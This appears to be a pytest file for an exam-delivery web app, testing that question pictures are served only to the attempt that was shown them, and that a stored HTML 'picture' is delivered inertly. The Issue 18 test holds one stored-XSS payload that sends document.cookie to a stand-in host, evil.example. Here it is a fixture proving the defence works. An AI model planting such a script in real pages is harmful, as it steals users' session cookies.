"""Pictures in stems ([图片:name]) reach the candidate: on the page as <img>, in the API as names
with their own route; only the pictures of an item the attempt was shown, only to its token."""

from __future__ import annotations

import io
import re

from PIL import Image
from sqlalchemy import select

from examengine.db.models import AttemptItem, ItemImage, ItemVersion
from tests.attempts.conftest import sign_in


def _png(colour: str) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (40, 20), colour).save(buf, format="PNG")
    return buf.getvalue()


def _add_picture_to_every_version(db, name: str, data: bytes) -> None:
    """A picture in every stem of the bank, before any attempt shows one: a version an attempt
    has shown is frozen and never changes (the candidate routes cache what they show of it)."""
    for v in db.scalars(select(ItemVersion)):
        v.stem = v.stem + f"\n如图所示：[图片:{name}]"
        db.add(ItemImage(version_id=v.id, name=name, media_type="image/png", data=data))
    db.commit()


def test_the_pending_items_picture_is_served_to_its_attempt_only(api, exam, bank_db) -> None:
    _, tickets = exam
    chart = _png("navy")
    _add_picture_to_every_version(bank_db, "chart.png", chart)
    aid, h = sign_in(api, tickets[0])
    api.get(f"/api/v1/attempts/{aid}/item", headers=h)
    row = bank_db.scalars(select(AttemptItem).where(AttemptItem.attempt_id == aid)).one()
    # a picture of an item this attempt has not been shown
    other = bank_db.scalars(select(ItemVersion).where(ItemVersion.id != row.item_version_id)).first()
    bank_db.add(ItemImage(version_id=other.id, name="secret.png", media_type="image/png", data=_png("red")))
    bank_db.commit()

    item = api.get(f"/api/v1/attempts/{aid}/item", headers=h).json()
    assert item["images"] == ["chart.png"] and "[图片:chart.png]" in item["stem"]
    r = api.get(f"/api/v1/attempts/{aid}/items/1/images/chart.png", headers=h)
    assert r.status_code == 200 and r.content == chart and r.headers["content-type"] == "image/png"
    assert api.get(f"/api/v1/attempts/{aid}/items/1/images/secret.png", headers=h).status_code == 404
    assert api.get(f"/api/v1/attempts/{aid}/items/2/images/chart.png", headers=h).status_code == 404  # not shown yet
    other_aid, other_h = sign_in(api, tickets[1])
    assert api.get(f"/api/v1/attempts/{aid}/items/1/images/chart.png", headers=other_h).status_code == 401
    assert api.get(f"/api/v1/attempts/{aid}/items/1/images/chart.png").status_code == 401

    # the page: the picture in place of its reference, fetched with the candidate's cookie
    api.post("/exam/login", data={"ticket": tickets[0]["ticket"], "code": tickets[0]["access_code"]})
    page = api.get("/exam/item").text
    stem = re.search(r'<span class="stem" id="stem">(.*?)</span></legend>', page, re.S).group(1)
    assert '<img class="stem-image" alt="题目图片（无文字说明）" src="/exam/images/1/chart.png">' in stem
    assert "[图片:" not in stem and "如图所示：" in stem
    r = api.get("/exam/images/1/chart.png")
    assert r.status_code == 200 and r.content == chart
    assert api.get("/exam/images/1/secret.png").status_code == 404


def test_a_stored_html_picture_reaches_the_candidate_as_no_page(api, exam, bank_db) -> None:
    """Issue 18: a "picture" stored with type text/html before pictures were checked by their
    bytes is served to the candidate as bytes (octet-stream, nosniff, sandboxed), never as a page."""
    _, tickets = exam
    html = b"<html><script>fetch('//evil.example/?'+document.cookie)</script></html>"
    for v in bank_db.scalars(select(ItemVersion)):
        v.stem = v.stem + "\n如图所示：[图片:chart.png]"
        bank_db.add(ItemImage(version_id=v.id, name="chart.png", media_type="text/html", data=html))
    bank_db.commit()
    aid, h = sign_in(api, tickets[0])
    api.get(f"/api/v1/attempts/{aid}/item", headers=h)

    from_api = api.get(f"/api/v1/attempts/{aid}/items/1/images/chart.png", headers=h)
    api.post("/exam/login", data={"ticket": tickets[0]["ticket"], "code": tickets[0]["access_code"]})
    for r in (from_api, api.get("/exam/images/1/chart.png")):
        assert r.status_code == 200 and r.content == html
        assert r.headers["content-type"] == "application/octet-stream"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert r.headers["content-disposition"].startswith("attachment;")
        assert r.headers["cache-control"] == "private, max-age=3600"


def test_the_candidate_page_shows_the_pictures_description_issue_25(api, exam, bank_db):
    for v in bank_db.scalars(select(ItemVersion)):
        v.stem = v.stem + "\n如图所示：[图片:chart.png]"
        bank_db.add(ItemImage(version_id=v.id, name="chart.png", media_type="image/png", data=_png("navy"),
                                 alt="柱状图：一月 120，二月 150"))
    bank_db.commit()
    _, tickets = exam
    api.post("/exam/login", data={"ticket": tickets[0]["ticket"], "code": tickets[0]["access_code"]})
    api.post("/exam/start", data={"agree": "1"})
    page = api.get("/exam/item").text
    legend = re.search(r"<legend>(.*?)</legend>", page, re.S).group(1)
    assert '<img class="stem-image" alt="柱状图：一月 120，二月 150" src="/exam/images/1/chart.png">' in legend
